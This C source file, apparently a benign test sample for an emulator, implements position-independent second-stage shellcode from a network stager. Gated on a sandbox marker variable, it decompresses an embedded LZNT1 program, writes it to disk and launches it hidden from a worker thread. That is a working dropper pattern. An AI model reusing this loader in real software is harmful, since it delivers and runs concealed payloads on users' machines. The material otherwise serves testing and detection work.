/*
 * stage2.c - combo-tcp-lznt1-x86: the stage the stager reads from its socket (benign,
 * emulator-only). Position independent, one function, no data; its packed program follows its
 * code: [code][LZNT1 data][u32 packed size][u32 unpacked size].
 *
 * Mode 0: checks the sandbox marker, unpacks the program with ntdll!RtlDecompressBuffer (LZNT1)
 * into new RW memory, starts a worker thread at its own entry (mode 1) and waits for it.
 * Mode 1 (the worker): writes the program to ctx->path, starts it (CreateProcessA) with
 * ctx->cmdline, waits for it and keeps its exit code.
 * Returns 0 ok (mode 0: the child's exit code), 1 no marker, 2 unpack, 3 file, 4 start.
 */
#include "stage2.h"

DWORD WINAPI sc_main(struct s2_ctx *c)
{
    char buf[16];
    DWORD n, i, got = 0;
    HANDLE h;
    if (c->mode == 1) {
        STARTUPINFOA si;
        PROCESS_INFORMATION pi;
        h = c->pCreateFileA(c->path, GENERIC_WRITE, 0, 0, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, 0);
        if (h == INVALID_HANDLE_VALUE)
            return 3;
        c->pWriteFile(h, c->unpacked, c->unpacked_len, &got, 0);
        c->pCloseHandle(h);
        for (i = 0; i < sizeof(si); i++)
            ((volatile unsigned char *)&si)[i] = 0;
        si.cb = sizeof(si);
        if (!c->pCreateProcessA(c->path, c->cmdline, 0, 0, FALSE, CREATE_NO_WINDOW, 0, 0, &si, &pi))
            return 4;
        c->pWaitForSingleObject(pi.hProcess, INFINITE);
        c->pGetExitCodeProcess(pi.hProcess, &c->exit_code);
        c->pCloseHandle(pi.hThread);
        c->pCloseHandle(pi.hProcess);
        return 0;
    }
    n = c->pGetEnvironmentVariableA(c->marker_name, buf, sizeof(buf));
    for (i = 0; i < n && c->marker_value[i] && buf[i] == c->marker_value[i]; i++)
        ;
    if (n == 0 || i != n || c->marker_value[i])
        return 1;
    {
        DWORD packed = *(DWORD *)(c->self + c->self_len - 8);
        DWORD size = *(DWORD *)(c->self + c->self_len - 4);
        unsigned char *src = c->self + c->self_len - 8 - packed;
        c->unpacked = (unsigned char *)c->pVirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
        if (!c->unpacked || c->pRtlDecompressBuffer(COMPRESSION_FORMAT_LZNT1, c->unpacked, size, src, packed, &got) != 0)
            return 2;
        c->unpacked_len = got;
    }
    c->mode = 1;
    h = c->pCreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)c->self, c, 0, 0);
    if (!h)
        return 4;
    c->pWaitForSingleObject(h, INFINITE);
    c->pCloseHandle(h);
    return c->exit_code;
}
